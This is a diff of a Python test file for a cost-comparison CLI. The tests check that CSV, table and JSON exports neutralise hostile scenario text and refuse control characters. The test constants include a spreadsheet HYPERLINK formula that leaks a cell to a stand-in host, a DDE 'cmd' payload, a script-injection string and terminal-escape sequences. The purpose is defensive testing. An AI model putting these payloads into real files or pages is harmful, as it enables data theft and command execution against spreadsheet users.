@@ -116,7 +116,10 @@ def test_cli_export_failure_is_one_message_and_keeps_the_file(
 
 HOSTILE_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 HOSTILE_NOTES = "+cmd|' /C calc'!A0"
-HOSTILE_SCENARIO = "@SUM(1+1)\u202e \x1b[2J\x1b[31mred\x07 </script><script>alert(1)</script>\nrow"
+HOSTILE_SCENARIO = "@SUM(1+1) </script><script>alert(1)</script>\nrow"
+# Terminal escapes, bell and bidirectional overrides are refused where the file is read
+# (tco/text.py, tests/test_hostile_files.py): the outputs below need no escaping of them.
+CONTROLS = "\u202e \x1b[2J\x1b[31mred\x07"
 
 
 def hostile_scenario(path: Path) -> Path:
@@ -167,13 +170,14 @@ def test_csv_never_starts_a_text_cell_with_a_formula(tmp_path: Path) -> None:
                 float(cell)  # only a number may start with a sign; anything else is a leak
 
 
-LINE_BREAK_NAMES = {"h100": "x\r@SUM(1+1)", "b200": "a\n=cmd"}
-LINE_BREAK_NOTES = "first\r\n+1+1\r-2\n\t@x"
+# A carriage return only as part of a Windows line end: a lone one is refused where it is read.
+LINE_BREAK_NAMES = {"h100": "x\r\n@SUM(1+1)", "b200": "a\n=cmd"}
+LINE_BREAK_NOTES = "first\r\n+1+1\r\n-2\n\t@x"
 
 
 def line_break_scenario(path: Path) -> Path:
     path.write_text(
-        "name: " + json.dumps("plain\r=1+1") + "\n"
+        "name: " + json.dumps("plain\r\n=1+1") + "\n"
         "workloads:\n"
         "  - id: llama-7b\n    params: 7e9\n    tokens: 1e11\n"
         "candidates:\n"
@@ -203,7 +207,7 @@ def test_safe_cell_neutralises_every_line() -> None:
 
 
 def test_csv_quotes_line_breaks_and_neutralises_each_line(tmp_path: Path) -> None:
-    """A bare CR used to go out unquoted: a spreadsheet (and the csv module) started a new row
+    """A CR used to go out unquoted: a spreadsheet (and the csv module) started a new row
     there, and the rest of the name became a live @SUM(...) cell."""
     result = CliRunner().invoke(cli, ["compare", str(line_break_scenario(tmp_path / "s.yaml")),
                                       "--format", "csv"])
@@ -215,9 +219,9 @@ def test_csv_quotes_line_breaks_and_neutralises_each_line(tmp_path: Path) -> Non
     assert len(rows) == 5
     assert {len(r) for r in rows} == {len(rows[0])}
     by_id = {r[0]: dict(zip(rows[0], r)) for r in rows[1:]}
-    assert by_id["h100"]["name"] == "x\r'@SUM(1+1)"
+    assert by_id["h100"]["name"] == "x\r\n'@SUM(1+1)"
     assert by_id["b200"]["name"] == "a\n'=cmd"
-    assert by_id["h100"]["notes"] == "first\r\n'+1+1\r'-2\n'\t@x"
+    assert by_id["h100"]["notes"] == "first\r\n'+1+1\r\n'-2\n'\t@x"
     assert_no_formula_line(rows)
     assert by_id["b200-rent"]["name"] == "a\n'=cmd, rented"
     assert len(pd.read_csv(io.StringIO(text))) == 4
@@ -255,13 +259,25 @@ def test_json_round_trips_hostile_text_exactly(tmp_path: Path) -> None:
     assert h100["notes"] == [HOSTILE_NOTES]
 
 
-def test_table_shows_control_characters_instead_of_running_them(tmp_path: Path) -> None:
+def test_table_shows_hostile_text_on_one_line(tmp_path: Path) -> None:
     text = run_ok(["compare", str(hostile_scenario(tmp_path / "s.yaml"))])
-    assert not any(ch in text for ch in "\x1b\x07\u202e\r")
     title = text.splitlines()[0]
-    assert title == ("@SUM(1+1)\\u202e \\u001b[2J\\u001b[31mred\\u0007 "
-                     "</script><script>alert(1)</script> row (USD, 5-year horizon)")
+    assert title == "@SUM(1+1) </script><script>alert(1)</script> row (USD, 5-year horizon)"
     assert HOSTILE_NOTES in text  # plain text is shown as is
+
+
+def test_control_characters_never_reach_an_output(tmp_path: Path) -> None:
+    """Refused where the scenario is read, shown escaped in the one message."""
+    path = tmp_path / "s.yaml"
+    path.write_text(hostile_scenario(tmp_path / "h.yaml").read_text().replace(
+        json.dumps(HOSTILE_SCENARIO), json.dumps(CONTROLS)), encoding="utf-8")
+    result = CliRunner().invoke(cli, ["compare", str(path), "--format", "csv"])
+    assert result.exit_code == 2 and result.stdout == ""
+    assert not any(ch in result.stderr for ch in "\x1b\x07\u202e\r")
+    assert result.stderr == (f"tco: error: {path}:1: name: found '\\u202e \\x1b[2J\\x1b[31mred"
+                             "\\x07': character 1 is U+202E (RIGHT-TO-LEFT OVERRIDE), a "
+                             "bidirectional control, which would reorder the text and figures "
+                             "shown around it; remove it\n")
 
 
 def test_printable_keeps_ordinary_text() -> None:
